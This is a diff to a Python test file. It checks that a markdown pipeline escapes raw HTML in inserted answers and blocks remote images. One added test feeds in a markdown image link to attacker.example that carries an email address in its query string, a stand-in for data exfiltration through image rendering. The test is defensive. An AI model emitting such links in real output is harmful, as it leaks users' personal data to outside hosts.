@@ -52,4 +52,7 @@ def test_inserted_answers_keep_placeholders_visible_in_markdown() -> None:
     from workbench.pipeline import markdown_source
 
     assert markdown_source("Hi <PERSON_2> at <EMAIL_ADDRESS_") == "Hi \\<PERSON_2> at \\<EMAIL_ADDRESS_"
-    assert markdown_source("keep <b>bold</b>") == "keep <b>bold</b>"
+    # raw HTML in an answer is shown as text, never rendered (the one renderer: workbench.render)
+    assert markdown_source("keep <b>bold</b>") == "keep \\<b\\>bold\\<\\/b\\>"
+    inserted = markdown_source("![x](https://attacker.example/?e=li.wei@example.com)")
+    assert "![" not in inserted and "image not loaded" in inserted
